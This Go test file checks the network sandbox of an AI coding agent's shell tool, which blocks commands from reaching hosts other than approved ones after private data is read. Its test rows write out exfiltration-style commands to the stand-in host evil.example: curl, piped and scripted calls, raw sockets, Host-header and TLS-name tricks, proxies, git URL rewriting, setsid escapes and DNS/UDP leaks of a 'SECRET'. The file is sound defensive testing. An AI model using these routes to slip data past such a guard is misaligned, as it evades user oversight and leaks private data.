package shell_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"marvin/messages"
	"marvin/tools"
	"marvin/tools/internal/jail"
	"marvin/tools/shell"
)

// hostsPlace is a project, with servers that represent hosts on the network.
type hostsPlace struct {
	env   tools.Env
	local string // address of a server on this machine
	mu    sync.Mutex
	taken []string // requests that reached the servers
}

func newHostsPlace(t *testing.T) *hostsPlace {
	t.Helper()
	root, err := os.MkdirTemp("/var/tmp", "hosts") // a command has its own /tmp
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(root) })
	p := &hostsPlace{}
	serve := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.mu.Lock()
		p.taken = append(p.taken, r.Host+r.URL.Path)
		p.mu.Unlock()
		if r.URL.Path == "/away" {
			http.Redirect(w, r, "http://evil.example/redirected", http.StatusFound)
			return
		}
		_, _ = io.WriteString(w, "answer of "+r.Host+r.URL.Path+"\n")
	})
	plain, secure := httptest.NewServer(serve), httptest.NewUnstartedServer(serve)
	secure.Config.ErrorLog = log.New(io.Discard, "", 0)
	secure.StartTLS()
	p.local = strings.TrimPrefix(plain.URL, "http://")
	t.Cleanup(plain.Close)
	t.Cleanup(secure.Close)
	sandbox := tools.NewSandbox(tools.SandboxConfig{Mode: tools.SandboxWorkspace, Home: root + "/home", Environ: os.Environ(), Hosts: map[string]string{
		"named.example": plain.URL, "evil.example": plain.URL, "rule.example": plain.URL, "remote.example": plain.URL, "registry.npmjs.org": plain.URL, "secure.example": secure.URL,
	}})
	t.Cleanup(func() { _ = sandbox.Close() })
	rules, err := tools.NewPermissions([]string{"run_command(http://rule.example/*)"}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string]string{
		".git/HEAD": "ref: refs/heads/main\n", ".git/objects/x": "", ".git/refs/x": "", ".git/config": "[remote \"origin\"]\n\turl = http://remote.example/x.git\n[user]\n\tname = A\n\temail = a@example.org\n",
	} {
		if err := os.MkdirAll(root+"/"+name[:strings.LastIndex(name, "/")], 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(root+"/"+name, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	p.env = tools.Env{
		Root: root, Dir: root, Home: root + "/home", Coding: true, Environ: os.Environ(), Now: time.Now, Progress: func(string) {},
		Held: tools.Held{Sandbox: sandbox, Rules: rules}, Known: &tools.KnownHosts{}, Seen: &tools.Stamps{}, Tainted: "read_file",
	}
	p.env.Known.AddPrompt("look at http://named.example/ and https://secure.example/")
	cell, err := p.env.Jail()
	if err == nil {
		_, _, err = shell.Attempt(t.Context(), p.env, "true", time.Minute)
	}
	if errors.Is(err, tools.ErrHosts) || errors.Is(err, jail.ErrMissing) || cell == nil {
		t.Skip("this system does not hold commands to hosts:", err)
	}
	return p
}

// run runs a line like the model.
func (p *hostsPlace) run(t *testing.T, env tools.Env, line string) tools.Output {
	t.Helper()
	args, err := json.Marshal(map[string]any{"command": line, "timeout": 30})
	if err != nil {
		t.Fatal(err)
	}
	call, err := shell.Tools()[0].Decode(args)
	if err != nil {
		t.Fatal(err)
	}
	env.Line = line
	output, err := call.Run(t.Context(), env)
	if err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	return output
}

// reached returns the requests that reached a server since the last call of reached.
func (p *hostsPlace) reached() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	all := strings.Join(p.taken, " ")
	p.taken = nil
	return all
}

func TestACommandSpeaksToNamedHostsOnly(t *testing.T) {
	p := newHostsPlace(t)
	const python = `python3 -c 'import socket, sys
s = socket.create_connection((sys.argv[1], 80), 5)
s.sendall(sys.argv[2].encode().decode("unicode_escape").encode())
s.shutdown(1)
while True:
    b = s.recv(999)
    if not b: break
    print(b.decode())' `
	for _, row := range []struct{ what, line, reached, refused string }{
		{"a host of the prompt", "curl -s http://named.example/a", "named.example/a", ""},
		{"by a pipe", "echo http://named.example/b | xargs curl -s", "named.example/b", ""},
		{"by a script", "echo 'curl -s http://named.example/c' > s.sh; sh s.sh", "named.example/c", ""},
		{"with TLS", "curl -sk https://secure.example/d", "secure.example/d", ""},
		{"a host of a rule", "curl -s http://rule.example/e", "rule.example/e", ""},
		{"the remote of the project", "git ls-remote origin", "remote.example/x.git/info/refs", ""},
		{"a registry", "curl -s http://registry.npmjs.org/left-pad", "registry.npmjs.org/left-pad", ""},
		{"this machine", "curl -s " + p.local + "/f", p.local + "/f", ""},
		{"a socket of a program", python + `named.example 'GET /g HTTP/1.0\r\nHost: named.example\r\n\r\n'`, "named.example/g", ""},

		{"another host", "curl -s http://evil.example/A", "", "evil.example:80"},
		{"by a pipe", "echo http://evil.example/B | xargs curl -s", "", "evil.example:80"},
		{"by a script", "echo 'curl -s http://evil.example/C' > s.sh; sh s.sh", "", "evil.example:80"},
		{"a socket of a program", python + `evil.example 'GET /D HTTP/1.0\r\n\r\n'`, "", "evil.example:80"},
		{"a redirect of a named host", "curl -sL http://named.example/away", "named.example/away", "evil.example:80"},
		{"a Host header at a named host", "curl -s -H 'Host: evil.example' http://named.example/E", "", "evil.example:80"},
		{"the second request of a connection", python + `named.example 'GET /h HTTP/1.1\r\nHost: named.example\r\n\r\nGET /F HTTP/1.1\r\nHost: evil.example\r\n\r\n'`, "named.example/h", "evil.example:80"},
		{"a name in the greeting of TLS", "curl -sk --connect-to evil.example:443:secure.example:443 https://evil.example/G", "", "evil.example:443"},
		{"a proxy on this machine", "curl -s -x " + p.local + " http://evil.example/H", "", "evil.example:80"},
		{"a SOCKS proxy on this machine", "curl -s --socks5-hostname " + p.local + " http://evil.example/I", "", "a SOCKS proxy on this machine"},
		{"an address without a name", "curl -s --connect-timeout 5 http://203.0.113.9/J", "", "203.0.113.9:80"},
		{"of the sixth version", "curl -s --connect-timeout 5 'http://[2001:db8::9]/K'", "", "[2001:db8::9]:80"},
		{"a remote that the command names", "git -c url.http://evil.example/.insteadOf=http://remote.example/ ls-remote origin", "", "evil.example:80"},
		{"what leaves the command's session", "rm -f left; (setsid curl -s http://evil.example/M; echo > left) & until test -e left; do :; done", "", "evil.example:80"},
	} {
		output := p.run(t, p.env, row.line)
		if got := p.reached(); got != row.reached {
			t.Errorf("%s: %q was reached, want %q\n%s", row.what, got, row.reached, output.Text)
		}
		refused := strings.Join(output.Refused, " ")
		if !strings.HasPrefix(refused, row.refused) || row.refused == "" && refused != "" || output.Held && refused != "" {
			t.Errorf("%s: refused %q, want %q (held %t)", row.what, refused, row.refused, output.Held)
		}
		if row.refused != "" && (!strings.Contains(output.Text, "tried to contact "+row.refused) || !strings.Contains(output.Text, "Tell the user")) {
			t.Errorf("%s: the model reads %s", row.what, output.Text)
		}
	}
	free := p.env
	free.Tainted = ""
	if p.run(t, free, "curl -s -H 'Host: evil.example' "+p.local+"/N"); p.reached() != "evil.example/N" {
		t.Error("before private words a command does not speak as it likes")
	}
}

func TestNoNameIsLookedUpForACommand(t *testing.T) {
	p := newHostsPlace(t)
	output := p.run(t, p.env, "getent ahosts SECRET.evil.example; python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"SECRET\", (\"203.0.113.53\", 53))'")
	if !strings.Contains(output.Text, "198.18.") || !strings.Contains(output.Text, "unreachable") {
		t.Error(output.Text)
	}
}

func TestTheUserIsAskedAboutAHost(t *testing.T) {
	p := newHostsPlace(t)
	var asked []string
	answer := ""
	env := p.env
	env.Person, env.Approval = true, messages.ApproveAuto
	env.Ask = func(_ context.Context, inquiry tools.Inquiry) (tools.Reply, error) {
		asked = append(asked, inquiry.Title+" "+inquiry.Detail)
		for _, option := range inquiry.Questions[0].Options {
			if strings.HasPrefix(option.Label, answer) {
				return tools.Reply{Answer: messages.Answer{Choice: messages.Yes, Chosen: []messages.Chosen{{Options: []string{option.Label}}}}}, nil
			}
		}
		return tools.Reply{}, errors.New("there is no such answer")
	}
	for _, row := range []struct {
		answer, reached string
		asks            bool
	}{
		{"do not", "", true}, {"for this command", "evil.example/1 evil.example/2", true}, {"do not", "", true}, {"always", "evil.example/1 evil.example/2", true}, {"do not", "evil.example/1 evil.example/2", false},
	} {
		answer, asked = row.answer, nil
		p.run(t, env, "curl -s http://evil.example/1; curl -s http://evil.example/2")
		if got := p.reached(); got != row.reached {
			t.Errorf("after %q %q was reached", row.answer, got)
		}
		if (len(asked) == 1) != row.asks || row.asks && (!strings.Contains(asked[0], "evil.example:80") || !strings.Contains(asked[0], "curl -s http://evil.example/2")) {
			t.Errorf("asked %q", asked)
		}
	}
}

// A server that a command starts can be reached from this machine, although the command has its own
// network, and from later commands.
func TestAServerOfACommandIsReached(t *testing.T) {
	p := newHostsPlace(t)
	free, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := free.Addr().(*net.TCPAddr).Port%20000 + 10000 // a port below the ephemeral ports
	_ = free.Close()
	line := fmt.Sprintf(`python3 -c 'import http.server, time
http.server.HTTPServer(("127.0.0.1", %d), http.server.SimpleHTTPRequestHandler).handle_request()
time.sleep(1)'`, port) // the end of a command also ends connections to it
	served := make(chan tools.Output, 1)
	go func() { served <- p.run(t, p.env, line) }()
	address, body := fmt.Sprintf("http://127.0.0.1:%d/s.txt", port), ""
	if err := os.WriteFile(p.env.Root+"/s.txt", []byte("from inside"), 0o644); err != nil {
		t.Fatal(err)
	}
	for body == "" && t.Context().Err() == nil {
		select {
		case output := <-served:
			t.Fatal("the server ended: ", output.Text)
		default:
		}
		body = p.run(t, p.env, "curl -s "+address+" || true").Text
		if !strings.Contains(body, "from inside") {
			body = ""
		}
	}
	<-served
}
